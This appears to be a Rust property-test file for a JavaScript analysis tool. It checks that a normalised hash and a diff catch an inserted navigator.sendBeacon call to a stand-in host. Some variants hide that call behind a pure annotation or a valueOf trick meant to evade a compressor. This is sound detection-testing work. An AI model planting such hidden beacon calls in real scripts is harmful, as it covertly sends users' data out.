//! Properties of the normalised hash, on generated scripts: renaming locals, reformatting,
//! re-commenting and changing literal text never change it; changing a member name, a URL
//! host or inserting a call to a network sink always does, and the diff (with its second
//! opinion, oxc's compressor on both versions) judges the inserted call a change.
#![allow(clippy::unwrap_used)]

use parapet_scripts::analysis::analyse;
use proptest::prelude::*;

const MEMBERS: &[&str] = &[
    "value",
    "src",
    "push",
    "addEventListener",
    "textContent",
    "send",
];
const HOSTS: &[&str] = &["cdn.one.example", "api.two.example", "stats.three.invalid"];
const LOCALS: usize = 6;

/// One statement of the generated function: a kind and its operands (indices).
#[derive(Debug, Clone, Copy)]
struct Stmt {
    kind: u8,
    a: usize,
    b: usize,
    member: usize,
    host: usize,
}

fn stmt() -> impl Strategy<Value = Stmt> {
    (
        0u8..5,
        0..LOCALS,
        0..LOCALS,
        0..MEMBERS.len(),
        0..HOSTS.len(),
    )
        .prop_map(|(kind, a, b, member, host)| Stmt {
            kind,
            a,
            b,
            member,
            host,
        })
}

/// How a script is written: local names, spacing, comments, literal text.
#[derive(Debug, Clone)]
struct Style {
    prefix: String,
    newline: &'static str,
    indent: &'static str,
    comments: bool,
    text: String,
    number: u32,
}

fn style() -> impl Strategy<Value = Style> {
    (
        "[a-z]{1,4}",
        prop_oneof![Just("\n"), Just(" "), Just("")],
        prop_oneof![Just(""), Just("  "), Just("\t")],
        any::<bool>(),
        "[a-z ]{0,12}",
        0u32..100_000,
    )
        .prop_map(|(prefix, newline, indent, comments, text, number)| Style {
            prefix,
            newline,
            indent,
            comments,
            text,
            number,
        })
}

fn render(stmts: &[Stmt], s: &Style) -> String {
    let n = |i: usize| format!("{}{i}", s.prefix);
    let nl = s.newline;
    let ind = s.indent;
    let mut out = String::new();
    if s.comments {
        out.push_str(&format!("/* generated: {} */{nl}", s.text.replace('*', "")));
    }
    out.push_str(&format!(
        "function run({}, {}) {{{nl}{ind}var {} = {}, {} = {{}}, {} = [], {} = null;{nl}",
        n(0),
        n(1),
        n(2),
        s.number,
        n(3),
        n(4),
        n(5)
    ));
    for st in stmts {
        let (a, b) = (n(st.a), n(st.b));
        let m = MEMBERS[st.member];
        let line = match st.kind {
            0 => format!("{a} = {b}.{m};"),
            1 => format!("{a}.{m}({b}, \"{}\");", s.text),
            2 => format!(
                "if ({a}) {{{nl}{ind}{ind}{b}.{m} = {};{nl}{ind}}}",
                s.number
            ),
            3 => format!(
                "{a} = send(\"https://{}/p/{}\", {b});",
                HOSTS[st.host],
                s.text.replace(' ', "-")
            ),
            _ => format!("{a} = {b} + {} * {a};", s.number),
        };
        out.push_str(ind);
        out.push_str(&line);
        if s.comments {
            out.push_str(if nl == "\n" {
                " // step"
            } else {
                " /* step */"
            });
        }
        out.push_str(nl);
        if nl.is_empty() {
            out.push(' ');
        }
    }
    out.push_str(&format!(
        "{ind}return {};{nl}}}{nl}run(document, window);",
        n(2)
    ));
    out
}

fn hash(src: &str) -> String {
    match analyse(src).outcome {
        Ok(p) => p.normalized_hash,
        Err(e) => panic!("generated script did not parse ({e}):\n{src}"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 200,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn cosmetic_changes_keep_the_hash(
        stmts in prop::collection::vec(stmt(), 1..12),
        one in style(),
        two in style(),
    ) {
        prop_assert_eq!(hash(&render(&stmts, &one)), hash(&render(&stmts, &two)));
    }

    #[test]
    fn a_member_name_or_host_change_changes_the_hash(
        stmts in prop::collection::vec(stmt(), 1..12),
        which in any::<prop::sample::Index>(),
        st in style(),
    ) {
        let i = which.index(stmts.len());
        let mut changed = stmts.clone();
        if stmts[i].kind == 3 {
            changed[i].host = (stmts[i].host + 1) % HOSTS.len();
        } else if stmts[i].kind <= 2 {
            changed[i].member = (stmts[i].member + 1) % MEMBERS.len();
        } else {
            return Ok(());
        }
        prop_assert_ne!(hash(&render(&stmts, &st)), hash(&render(&changed, &st)));
    }

    #[test]
    fn an_inserted_sink_call_changes_the_hash(
        stmts in prop::collection::vec(stmt(), 1..12),
        st in style(),
        at in any::<prop::sample::Index>(),
    ) {
        let src = render(&stmts, &st);
        // Insert before any statement boundary inside the function body.
        let bounds: Vec<usize> = src.match_indices(';').map(|(i, _)| i + 1).collect();
        let pos = bounds[at.index(bounds.len() - 1)];
        let injected = format!(
            "{} navigator.sendBeacon(\"https://x.example/c\", {}0);{}",
            &src[..pos],
            st.prefix,
            &src[pos..]
        );
        prop_assert_ne!(hash(&src), hash(&injected));
    }

    /// The diff, second opinion included (both versions compressed by oxc), judges an
    /// inserted sink call a behaviour change however it is hidden from the compressor: as
    /// written, under a pure annotation, or inside a `valueOf` that an unused comparison
    /// calls (which oxc's compressor drops).
    #[test]
    fn an_inserted_sink_call_is_a_behaviour_change_in_the_diff(
        stmts in prop::collection::vec(stmt(), 1..12),
        st in style(),
        at in any::<prop::sample::Index>(),
        disguise in 0usize..3,
    ) {
        use parapet_scripts::analysis::diff::ScriptDiff;
        let src = render(&stmts, &st);
        let bounds: Vec<usize> = src.match_indices(';').map(|(i, _)| i + 1).collect();
        let pos = bounds[at.index(bounds.len() - 1)];
        let call = "navigator.sendBeacon(\"https://x.example/c\", 0)";
        let code = match disguise {
            0 => format!("{call};"),
            1 => format!("/*#__PURE__*/ {call};"),
            _ => format!("({{ valueOf: function () {{ {call}; return 1; }} }}) == 1;"),
        };
        let injected = format!("{} {code}{}", &src[..pos], &src[pos..]);
        let (a, b) = (analyse(&src), analyse(&injected));
        let d = ScriptDiff::between("a", &a, "b", &b);
        prop_assert!(d.comparable && d.behaviour_changed, "{}", injected);
    }
}

/// The corpus's scripts, cut and spliced at random: hostile-looking input that is mostly
/// JavaScript. Analysis must not panic, must be deterministic, and a script diffed with
/// itself never changes behaviour. (The fuzz target `script_analysis` does the same with
/// coverage guidance.)
fn corpus_texts() -> Vec<String> {
    let root = std::env::var_os("CARGO_MANIFEST_DIR")
        .map_or_else(
            || std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")),
            std::path::PathBuf::from,
        )
        .join("testdata/corpus");
    let manifest = std::fs::read_to_string(root.join("manifest.tsv")).unwrap();
    manifest
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        .map(|l| std::fs::read_to_string(root.join(l.split('\t').next().unwrap())).unwrap())
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 300,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn mangled_scripts_never_panic(
        which in any::<prop::sample::Index>(),
        cut in any::<prop::sample::Index>(),
        junk in "[\\PC]{0,16}",
        keep in any::<prop::sample::Index>(),
    ) {
        use parapet_scripts::analysis::classify::{classify, Context};
        use parapet_scripts::analysis::diff::ScriptDiff;
        let texts = corpus_texts();
        let text = &texts[which.index(texts.len())];
        let mut at = cut.index(text.len());
        while !text.is_char_boundary(at) {
            at -= 1;
        }
        let mut end = at + keep.index(text.len() - at + 1);
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        let mangled = format!("{}{junk}{}", &text[..at], &text[end..]);
        let (a, b) = (analyse(&mangled), analyse(&mangled));
        let ha = a.outcome.as_ref().ok().map(|p| p.normalized_hash.clone());
        let hb = b.outcome.as_ref().ok().map(|p| p.normalized_hash.clone());
        prop_assert_eq!(ha, hb);
        prop_assert!(!ScriptDiff::between("a", &a, "b", &b).behaviour_changed);
        let v = classify("a", &a, Some(&b), Context::default());
        prop_assert!(v.risk >= 0.0 && v.risk <= 1.0);
    }
}
